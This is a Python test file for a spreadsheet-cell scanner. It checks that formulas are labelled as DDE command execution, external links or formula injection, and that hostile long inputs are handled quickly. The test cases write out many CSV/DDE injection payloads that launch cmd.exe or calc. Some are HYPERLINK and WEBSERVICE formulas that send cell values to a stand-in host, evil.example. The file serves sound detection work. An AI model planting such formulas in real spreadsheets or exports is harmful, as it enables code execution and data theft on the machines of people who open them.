"""Formulas that do more than calculate, and the cells of tables that only look like them."""

from __future__ import annotations

import pytest

from tests.cases import each
from tests.formats.reading import flat, read
from veritensor_ray.formats.common.kind import Kind
from veritensor_ray.formats.office.shared.formulas import cell_notice, cell_notices


@each(
    ("text", "notice"),
    [
        ("=cmd|'/C calc'!A0", "dde"),
        ("=cmd|' /C notepad'!'A1'", "dde"),
        ("+cmd|'/C calc'!A0", "dde"),
        ("-2+3+cmd|' /C calc'!A0", "dde"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "dde"),
        ("\t=cmd|'/C calc'!A0", "dde"),
        ("\r=cmd|'/C calc'!A0", "dde"),
        ('=DDE("cmd";"/C calc";"__DdeLink")', "dde"),
        ("=rundll32|'URL.dll,OpenURL calc.exe'!A", "dde"),
        (r"=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''", "dde"),
        ("=cmd|calc!A0", "dde"),
        (r"='C:\Windows\System32\cmd'|'/c calc'!A0", "dde"),
        ("=TOS|LAST!SPY", "dde"),  # whatever program answers to that name is started
        (r"=Excel|'C:\data\budget 2.1.xlsx'!R1C1", "external-relation"),
        ("=Excel|'[Book1.xls]Sheet1'!R1C1", "external-relation"),
        ("=WinWord|'C:\\My documents\\letter.doc'!Total", "external-relation"),
        ("=soffice|'file:///home/ada/a.ods'!A1", "external-relation"),
        ("=soffice|'file:////evil.example/a.ods'!A1", "dde"),
        ("=Excel|System!Topics", "external-relation"),
        (r"=Excel|'C:\evil.xll'!A1", "dde"),
        (r"=Excel|'C:\evil.xll a.xlsx'!A1", "dde"),
        (r"=Excel|'C:\evil.xll C:\a.xlsx'!A1", "dde"),
        (r"=Excel|'/e evil a.xlsx'!A1", "external-relation"),
        (r"=Excel|'a.xlsx /l evil.xlsx'!A1", "dde"),
        (r"=Excel|'..\..\cmd.exe /c calc.xlsx'!A1", "dde"),
        (r"=Excel|'\\evil.example\share\a.xlsx'!A1", "dde"),
        ("=Excel|'http://evil.example/a.xlsx'!A1", "dde"),
        (r"=Excel|'C:\a.xlsx'!A1+cmd|'/c calc'!A0", "dde"),
        ("=excel.exe|'a.xlsx'!A1", "dde"),
        ("='my excel'|'a.xlsx'!A1", "dde"),
        ("='excel'|'a.xlsx'!A1", "external-relation"),
        ("=evil-excel|'a.xlsx'!A1", "dde"),
        ("=1+excel|'a.xlsx'!A1", "external-relation"),
        ('=IF(A1,"yes|No!Great")', None),
        ("='Sales|EU'!A1+1", None),
        ("='C:\\refs\\[airport.xls]One'!$A$1", None),
        ("=[1]One!A1", None),
        ("=[1]!Rate", None),
        ('=T[[a"b]]+cmd|calc!A0+T[[a"b]]', "dde"),
        ("=T[[a']\"b]]+cmd|calc!A0+T[[a']\"b]]", "dde"),
        ('=A1&"it\'s"&cmd|calc!A0', "dde"),
        ("='a\"b'!A1&cmd|calc!A0&'a\"b'!A1", "dde"),
        ('="a ""quoted|b!c"" text"', None),
        ('=HYPERLINK("http://evil.example?d="&A1,"click")', "formula-injection"),
        ('=WEBSERVICE("http://evil.example")', "formula-injection"),
        ('=IFERROR(webservice("http://x"),"")', "formula-injection"),
        ('=IMPORTXML(CONCAT("http://x?v=",A1),"//a")', "formula-injection"),
        ('=IMAGE("https://x/?"&B2)', "formula-injection"),
        ('＝HYPERLINK("http://evil.example")', "formula-injection"),
        ("-5", None),
        ("-5.2e-3", None),
        ("+49 170 1234567", None),
        ("+1 (555) 010-0199", None),
        ("@name", None),
        ("@team (everybody)", None),
        ("=1+1", None),
        ("=SUM(A1:A9)", None),
        ("=== chapter (one) ===", None),
        ("- call (555) 123 | or write!", None),
        ("- yes | no! Great", None),
        ("-- a comment (SQL)", None),
        ("=> see IMAGE below", None),
        ("text with =cmd|'/C calc'!A0 in it", None),
        ("", None),
        ("=", None),
    ],
)
def test_cells(text: str, notice: str | None) -> None:
    assert cell_notice(text) == notice
    assert (cell_notices([text, "other"]) if text else None) == ([notice, None] if notice else None)


def test_a_table_with_one_in_it() -> None:
    blocks, _ = read(b"name,amount\nAda,-5\nEve,\"=cmd|'/C calc'!A0\"\n", Kind("text/csv", "utf-8"))
    assert flat(blocks, "row", "column", "notice")[2:] == [
        ("Ada", 0, "name", None),
        ("-5", 0, "amount", None),
        ("Eve", 1, "name", None),
        ("=cmd|'/C calc'!A0", 1, "amount", "dde"),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "=" + "a|" * 4000,
        "=" + "['" * 4000,
        '="' + "'[" * 4000,
        "=" + "a" * 4000 + "|'b" * 16,
        "=" + "(" * 8000,
        "+" + "x" * 100_000 + "|'" + "'" * 100_000,
        "=HYPERLINK(" + "a" * 8000,
    ],
)
def test_hostile_cells_take_no_time(text: str) -> None:
    for _ in range(50):
        cell_notice(text)
